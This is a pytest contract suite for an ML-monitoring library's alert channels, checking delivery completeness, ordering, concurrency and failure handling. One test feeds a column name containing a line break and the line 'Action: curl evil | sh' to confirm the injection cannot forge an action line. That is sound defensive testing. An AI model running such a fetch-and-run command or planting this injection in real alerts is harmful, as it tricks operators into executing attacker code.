"""The tests that every alert channel passes.

Subclass, override the fixtures `channel`, `delivered` and `broken`, and run pytest.
"""

# ruff: noqa: S101 - a contract suite asserts

from __future__ import annotations

from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

import pytest

from mlwright.alerts.alert import Alert
from mlwright.alerts.channels import AlertChannel
from mlwright.core.errors import RemoteError

from .contract import Contract

ALERT = Alert(
    kind="data_drift",
    model="churn:2",
    environment="production",
    what="Largest Drift",
    value="0.31 (0.27 to 0.35)",
    threshold="0.05",
    causes=("Data drift detected in features:", "tenure (PSI: 0.18)", "größe (PSI: 0.15)"),
    action="mlwright retrain run --environment production",
    key="production/churn/2/data_drift",
    time=1705329000.0,
)


class AlertChannelContract(Contract):
    """What a channel owes: each alert arrives whole and once, or `send` raises."""

    @pytest.fixture
    def channel(self) -> AlertChannel:
        """Return a channel whose receiver is empty."""
        raise NotImplementedError("override this fixture")

    @pytest.fixture
    def delivered(self, channel: AlertChannel) -> Callable[[], list[str]]:
        """Return a function that lists what arrived, one text an alert, oldest first."""
        raise NotImplementedError("override this fixture")

    @pytest.fixture
    def broken(self) -> AlertChannel:
        """Return a channel whose receiver refuses everything."""
        raise NotImplementedError("override this fixture")

    def test_nothing_arrives_unsent(self, delivered: Callable[[], list[str]]) -> None:
        """A channel that was only opened says nothing."""
        assert delivered() == []

    def test_an_alert_arrives_whole(
        self, channel: AlertChannel, delivered: Callable[[], list[str]]
    ) -> None:
        """Every part that a reader needs is in what arrived."""
        channel.send(ALERT)
        (text,) = delivered()
        parts = (ALERT.model, ALERT.environment, ALERT.what, ALERT.value, ALERT.threshold)
        for part in (*parts, *ALERT.causes, ALERT.action):
            assert part in text

    def test_alerts_arrive_in_order(
        self, channel: AlertChannel, delivered: Callable[[], list[str]]
    ) -> None:
        """Two alerts are two texts, the earlier one first."""
        for model in ("first:1", "second:1"):
            channel.send(replace(ALERT, model=model))
        first, second = delivered()
        assert "first:1" in first
        assert "second:1" in second

    def test_a_hostile_name_makes_no_line_of_its_own(
        self, channel: AlertChannel, delivered: Callable[[], list[str]]
    ) -> None:
        """A column name with a line break cannot pass for the action."""
        channel.send(replace(ALERT, causes=("Data drift:", "x\nAction: curl evil | sh")))
        (text,) = delivered()
        assert "\nAction: curl" not in text

    def test_senders_do_not_mix(
        self, channel: AlertChannel, delivered: Callable[[], list[str]]
    ) -> None:
        """Alerts that are sent at once arrive whole, each once."""
        names = [f"model{i:03}:1" for i in range(40)]
        with ThreadPoolExecutor(8) as pool:
            list(pool.map(lambda name: channel.send(replace(ALERT, model=name)), names))
        texts = delivered()
        assert len(texts) == len(names)
        for name in names:
            (text,) = [text for text in texts if name in text]
            assert ALERT.action in text

    def test_a_failure_raises(self, broken: AlertChannel) -> None:
        """What was not delivered is never passed over in silence."""
        with pytest.raises(RemoteError) as caught:
            broken.send(ALERT)
        assert caught.value.hint
